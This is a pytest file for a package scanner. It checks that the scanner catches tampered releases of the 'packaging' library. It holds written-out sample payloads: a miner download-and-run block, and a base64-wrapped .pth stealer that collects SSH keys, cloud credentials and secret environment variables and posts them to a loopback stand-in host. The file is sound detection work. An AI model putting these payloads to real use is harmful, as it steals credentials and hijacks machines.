"""A compromised release of a popular project is still caught.

The 2024 ultralytics releases and the 2026 litellm releases were the projects' own code with a
few lines added: a module body that downloads a program and starts it; a ``.pth`` file that
runs base64-decoded code at every interpreter start, collecting secrets and sending them away.
Here the legitimate archive is a real popular project's files, read as bytes from the
``packaging`` distribution installed in the test environment (nothing of it is imported from
the archive), zipped into a wheel; the payloads are real-shaped and inert (they point at a
loopback address, and the scanner only reads them).
"""

from __future__ import annotations

import base64
import importlib.metadata
import io
import zipfile
from collections.abc import Callable

import pytest

from bastion.scanning import scan_bytes
from bastion.scanning.diff import scan_with_previous
from bastion.scanning.result import Finding, Severity, Verdict

DIST = importlib.metadata.distribution("packaging")
FILENAME = f"packaging-{DIST.version}-py3-none-any.whl"

#: ultralytics-shaped: fetch a miner into the temp folder and start it, detached and silent.
MINER = b"""

import os as _os, subprocess as _sp, tempfile as _tf, urllib.request as _ur

_bin = _os.path.join(_tf.gettempdir(), ".cache-helper")
try:
    _ur.urlretrieve("http://127.0.0.1:8999/xmrig", _bin)
    _os.chmod(_bin, 0o755)
    _sp.Popen(
        [_bin, "-o", "127.0.0.1:3333", "--donate-level", "1"],
        stdout=_sp.DEVNULL,
        stderr=_sp.DEVNULL,
        start_new_session=True,
    )
except Exception:
    pass
"""

#: litellm-2026-shaped: environment secrets and credential files, posted away.
STEALER = b"""
import os, json, urllib.request
found = {k: v for k, v in os.environ.items() if any(s in k for s in ("KEY", "TOKEN", "SECRET"))}
for path in ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.kube/config", "~/.docker/config.json"):
    p = os.path.expanduser(path)
    if os.path.exists(p):
        found[path] = open(p).read()
req = urllib.request.Request("http://127.0.0.1:8999/collect", data=json.dumps(found).encode())
urllib.request.urlopen(req)
"""
PTH = b"import base64; exec(base64.b64decode('" + base64.b64encode(STEALER) + b"'))\n"


def popular_wheel(
    replace: dict[str, Callable[[bytes], bytes]] | None = None,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """The installed ``packaging`` distribution's files as a wheel (bytes only)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for file in DIST.files or []:
            path = str(file)
            if path.startswith("..") or "__pycache__" in path:
                continue
            if path.endswith(("RECORD", "INSTALLER", "REQUESTED", "direct_url.json")):
                continue
            data = file.locate().read_bytes()  # type: ignore[attr-defined]
            if replace and path in replace:
                data = replace[path](data)
            zf.writestr(path, data)
        for path, data in (extra or {}).items():
            zf.writestr(path, data)
    return buf.getvalue()


@pytest.fixture(scope="module")
def clean() -> bytes:
    data = popular_wheel()
    assert sum(1 for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if n.endswith(".py")) > 6
    return data


def high(findings: list[Finding], path: str) -> set[str]:
    return {f.rule for f in findings if f.severity is Severity.HIGH and f.file == path}


def test_the_legitimate_archive_is_clean(clean: bytes) -> None:
    result = scan_bytes(clean, FILENAME)
    assert result.verdict is Verdict.CLEAN and result.complete


def test_ultralytics_shaped_payload_in_the_package_body_is_malicious(clean: bytes) -> None:
    bad = popular_wheel(replace={"packaging/__init__.py": lambda d: d + MINER})
    result = scan_bytes(bad, FILENAME)
    assert result.verdict is Verdict.MALICIOUS
    assert "download-and-execute" in high(result.findings, "packaging/__init__.py")
    diffed = scan_with_previous(io.BytesIO(bad), FILENAME, io.BytesIO(clean), FILENAME)
    f = next(f for f in diffed.diff if f.rule == "release-diff-import-behaviour")
    assert f.severity is Severity.HIGH and f.file == "packaging/__init__.py"
    assert f.excerpt == '_ur.urlretrieve("http://127.0.0.1:8999/xmrig", _bin)'


def test_ultralytics_shaped_payload_in_an_imported_module_body_is_malicious() -> None:
    # packaging/utils.py is imported by packaging.markers and packaging.requirements
    bad = popular_wheel(replace={"packaging/utils.py": lambda d: d + MINER})
    result = scan_bytes(bad, FILENAME)
    assert result.verdict is Verdict.MALICIOUS
    assert high(result.findings, "packaging/utils.py")


def test_ultralytics_shaped_payload_in_an_imported_module_is_found_by_the_diff(
    clean: bytes,
) -> None:
    bad = popular_wheel(replace={"packaging/utils.py": lambda d: d + MINER})
    plain = scan_bytes(bad, FILENAME)
    # the module body's download is held by the plain scan too (role "body")
    assert "download-and-execute" in high(plain.findings, "packaging/utils.py")
    diffed = scan_with_previous(io.BytesIO(bad), FILENAME, io.BytesIO(clean), FILENAME)
    f = next(f for f in diffed.diff if f.rule == "release-diff-import-behaviour")
    assert f.severity is Severity.HIGH and f.file == "packaging/utils.py"
    assert "network, process" in f.message
    assert diffed.result.verdict is Verdict.MALICIOUS


def test_litellm_shaped_pth_payload_is_malicious_and_new(clean: bytes) -> None:
    bad = popular_wheel(extra={"packaging_init.pth": PTH})
    result = scan_bytes(bad, FILENAME)
    assert result.verdict is Verdict.MALICIOUS
    rules = high(result.findings, "packaging_init.pth")
    assert {"pth-code-execution", "exec-obfuscated-code", "exfiltration"} <= rules
    diffed = scan_with_previous(io.BytesIO(bad), FILENAME, io.BytesIO(clean), FILENAME)
    f = next(f for f in diffed.diff if f.rule == "release-diff-pth")
    assert f.severity is Severity.HIGH and (f.file, f.line) == ("packaging_init.pth", 1)
    assert "decode, exec, network, secrets" in f.message and "no such file" in f.message


def _vendored_packaging() -> bytes | None:
    """pip's own copy of ``packaging`` (another release of it) as a wheel, when there is one."""
    try:
        import pip._vendor.packaging as vendored
    except ImportError:
        return None
    from pathlib import Path

    root = Path(vendored.__file__).parent
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in sorted(root.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                zf.writestr(f"packaging/{path.relative_to(root).as_posix()}", path.read_bytes())
        zf.writestr(
            "packaging-0.dist-info/METADATA", "Metadata-Version: 2.1\nName: packaging\nVersion: 0\n"
        )
        zf.writestr("packaging-0.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
    return buf.getvalue()


def test_two_real_releases_of_a_popular_project_differ_in_nothing_the_diff_reports(
    clean: bytes,
) -> None:
    other = _vendored_packaging()
    if other is None:
        pytest.skip("pip does not vendor packaging here")
    for new, old in ((clean, other), (other, clean)):
        diffed = scan_with_previous(io.BytesIO(new), FILENAME, io.BytesIO(old), FILENAME)
        assert [f for f in diffed.diff if f.severity is not Severity.INFO] == []
        assert diffed.result.verdict is Verdict.CLEAN
